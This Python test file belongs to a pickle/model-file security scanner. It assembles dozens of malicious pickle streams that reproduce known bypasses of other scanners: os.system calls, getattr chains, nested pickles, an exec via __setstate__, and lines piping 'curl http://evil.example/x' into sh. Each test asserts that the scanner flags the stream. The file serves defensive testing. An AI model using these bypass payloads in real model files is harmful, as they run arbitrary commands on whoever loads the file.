"""The ways past other scanners, by mechanism: each must be an attack, whatever else the file is."""

from __future__ import annotations

import struct

import pytest
from tests.formats.assemble import (
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    NONE,
    PROTO4,
    SHELL,
    call,
    checkpoint,
    data,
    fetch,
    number,
    pickle,
    stack_fetch,
    text,
    tup,
)
from tests.scan.examine import examine

from modelward.core.finding import Verdict

SYSTEM = fetch("os", "system")
NESTED = pickle(SHELL)
CLEAN = pickle(EMPTY_DICT)
INSTANCE = fetch("acme", "Net") + EMPTY_TUPLE + b"\x81"

BYPASSES: dict[str, bytes] = {
    "call whose result is thrown away (fickling mxhj)": pickle(SHELL, b"0", NONE),
    "OBJ whose result is thrown away": pickle(b"(", SYSTEM, text("id"), b"o0", NONE),
    "INST": pickle(b"(", text("id"), b"ios\nsystem\n"),
    "call followed by BUILD (fickling mhc9)": pickle(SHELL, EMPTY_DICT, b"b"),
    "BUILD that writes onto a global (modelscan 330)": pickle(
        fetch("numpy", "size"), EMPTY_DICT, text("shape"), fetch("builtins", "__dict__"), b"s", b"b"
    ),
    "items put into sys.modules": pickle(fetch("sys", "modules"), text("os"), NONE, b"s"),
    "name with a dot (pathlib, os.system)": pickle(
        stack_fetch("pathlib", "os.system"), tup(text("id")), b"R"
    ),
    "name that is put together": pickle(
        call("builtins", "getattr", fetch("builtins", "str"), text("join")) + tup(text("")) + b"R"
    ),
    "getattr of a module": pickle(call("builtins", "getattr", fetch("os", "path"), text("os"))),
    "getattr of getattr": pickle(
        call(
            "builtins",
            "getattr",
            call("builtins", "getattr", INSTANCE, text("forward")),
            text("__globals__"),
        )
    ),
    "import by name": pickle(call("importlib", "import_module", text("os"))),
    "__import__": pickle(call("builtins", "__import__", text("os"))),
    "attrgetter": pickle(call("operator", "attrgetter", text("system")), tup(NONE), b"R"),
    "methodcaller": pickle(call("operator", "methodcaller", text("system"), text("id")), tup(NONE), b"R"),
    "partial of a command": pickle(call("functools", "partial", SYSTEM, text("id")), EMPTY_TUPLE, b"R"),
    "reduce": pickle(call("functools", "reduce", SYSTEM, EMPTY_LIST)),
    "map of a command": pickle(call("builtins", "map", SYSTEM, EMPTY_LIST + text("id") + b"a")),
    "apply of Python 2": pickle(call("__builtin__", "apply", SYSTEM, tup(text("id")))),
    "default_factory": pickle(call("collections", "defaultdict", SYSTEM)),
    "nested pickle in torch storage": pickle(call("torch.storage", "_load_from_bytes", data(NESTED))),
    "nested pickle in torch storage, encoded": pickle(
        call(
            "torch.storage",
            "_load_from_bytes",
            call("_codecs", "encode", text("cos\nsystem\n."), text("latin1")),
        )
    ),
    "nested pickle.loads": pickle(call("_pickle", "loads", data(NESTED))),
    "nested pickle in an unknown function": pickle(call("acme", "rebuild", data(NESTED))),
    "payload before a broken tail (nullifAI)": b"\x80\x02" + SHELL + b"\xff\xff",
    "payload in a file that breaks off": b"\x80\x02" + SHELL,
    "second stream after STOP": CLEAN + NESTED,
    "protocol 0 without a magic": b"cos\nsystem\n(S'id'\ntR.",
    "protocol 4 with a short frame": PROTO4
    + b"\x95"
    + struct.pack("<Q", 4)
    + stack_fetch("os", "system")
    + tup(text("id"))
    + b"R.",
    "memo of a key out of order": pickle(SYSTEM, b"q\xc8", b"0", b"h\xc8", tup(text("id")), b"R"),
    "string of STACK_GLOBAL from the memo": pickle(
        text("os"),
        b"q\x01",
        b"0",
        text("system"),
        b"q\x02",
        b"0",
        b"h\x01",
        b"h\x02",
        b"\x93",
        tup(text("id")),
        b"R",
    ),
    "marshal and FunctionType": pickle(
        call("types", "FunctionType", call("marshal", "loads", data(b"c")), EMPTY_DICT), EMPTY_TUPLE, b"R"
    ),
    "submodule of a denied module (CVE-2025-10157)": pickle(call("asyncio.unix_events", "x", text("id"))),
    "hook set on an instance": pickle(INSTANCE, EMPTY_DICT, text("__setstate__"), SYSTEM, b"s", b"b"),
    "hook set on an instance, harmless looking": pickle(
        INSTANCE, EMPTY_DICT, text("__setstate__"), fetch("acme", "run"), b"s", b"b"
    ),
    "class changed on an instance": pickle(INSTANCE, EMPTY_DICT, text("__class__"), INSTANCE, b"s", b"b"),
    "call through copyreg": pickle(call("copyreg", "__newobj__", fetch("subprocess", "Popen"), text("id"))),
    "ShadowPickle": pickle(call("collections", "OrderedDict", text("curl http://evil.example/x | sh"))),
    "scipy distribution that brings its parser (exec in __setstate__)": pickle(
        fetch("scipy.stats._continuous_distns", "norm_gen"),
        EMPTY_TUPLE,
        b"\x81",
        EMPTY_DICT + text("_parse_arg_template") + text("import os; os.system('id')") + b"s",
        b"b",
    ),
    "unknown function with a command": pickle(
        call("acme.jobs", "start", text("curl http://a.example/x | sh"))
    ),
    "unknown class method with a command": pickle(
        call("builtins", "getattr", fetch("acme", "Job"), text("start")), tup(text("/bin/sh -c 'id'")), b"R"
    ),
    "in a torch checkpoint": checkpoint(SHELL, b"0", EMPTY_DICT).bytes(),
}


@pytest.mark.parametrize("name", BYPASSES)
def test_bypass_is_an_attack(name: str) -> None:
    assert examine(BYPASSES[name]).verdict is Verdict.MALICIOUS


UNTOLD: dict[str, bytes] = {
    "extension registry": pickle(b"\x82\x01"),
    "persistent id of nobody": pickle(text("x"), b"Q"),
    "buffer from outside": pickle(b"\x97"),
    "operand of STACK_GLOBAL that is not text": pickle(number(1), text("system"), b"\x93"),
    "memo that was never set": pickle(b"h\x05"),
    "call of what cannot be told": pickle(text("x"), b"Q", EMPTY_TUPLE, b"R"),
    "vowpal wabbit wrapper of gensim (deletes a folder)": pickle(
        fetch("gensim.models.wrappers.ldavowpalwabbit", "LdaVowpalWabbit"),
        EMPTY_TUPLE,
        b"\x81",
        EMPTY_DICT,
        b"b",
    ),
    "formula of statsmodels (eval in __setstate__)": pickle(
        fetch("statsmodels.base.data", "PandasData"),
        EMPTY_TUPLE,
        b"\x81",
        EMPTY_DICT + text("restore_design_info") + b"\x88" + b"s",
        b"b",
    ),
    "pointer for a destructor": pickle(
        fetch("xgboost.core", "Booster"),
        EMPTY_TUPLE,
        b"\x81",
        EMPTY_DICT + text("handle") + number(4096) + b"s",
        b"b",
    ),
    "attribute map of a configuration": pickle(
        fetch("transformers.configuration_utils", "PretrainedConfig"),
        EMPTY_TUPLE,
        b"\x81",
        EMPTY_DICT + text("attribute_map") + EMPTY_DICT + b"s",
        b"b",
    ),
}


@pytest.mark.parametrize("name", UNTOLD)
def test_what_cannot_be_told_is_never_clean(name: str) -> None:
    assert examine(UNTOLD[name]).verdict in (Verdict.UNVERIFIED, Verdict.INCOMPLETE)
